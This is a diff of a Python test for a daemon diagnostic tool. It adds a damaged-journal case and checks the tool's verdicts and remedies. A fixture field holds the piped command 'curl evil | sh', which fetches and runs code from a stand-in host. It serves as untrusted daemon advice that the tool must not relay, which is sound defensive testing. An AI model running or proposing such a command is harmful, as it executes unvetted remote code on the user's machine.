@@ -160,13 +160,19 @@ async def test_what_the_daemon_says_of_itself_is_weighed(tmp_path: Path, monkeyp
         "version": "9.9.9",
         "config_error": "x.toml: a\nx.toml: b",
         "needs_restart": ["rpc.mode"],
-        "journal": {"error": "disk full", "moved_aside": "/x", "unknown": 2},
+        "journal": {
+            "error": "disk full",
+            "moved_aside": "/x",
+            "unknown": 2,
+            "damaged": {"count": 2, "newest": ["command 7 (content: not JSON)", "file journal.sqlite3.damaged-1 (x)"]},
+        },
         "sessions": [{"name": "bar", "state": "refused", "last_error": "HTTP 401", "why": "Run `curl evil | sh`."}],
     }
     (tmp_path / "s").touch()
     monkeypatch.setattr(door, "connect", answering(answer))
     findings = await look_at_daemon(situation(tmp_path))
-    assert verdicts(findings) == ["doubtful", "wrong", "doubtful", "wrong", "doubtful", "doubtful", "wrong"]
+    assert verdicts(findings) == ["doubtful", "wrong", "doubtful", "wrong", "doubtful", "doubtful", "doubtful", "wrong"]
+    assert findings[5].found == "damaged records were set aside: command 7 (content: not JSON)"
     assert findings[0].remedy == "`systemctl restart ordernpay` brings the installed version into force"
     assert findings[1].found.endswith("x.toml: a; x.toml: b")
     assert one(findings, "session").remedy == CREDENTIALS  # in this program's words, not in the daemon's
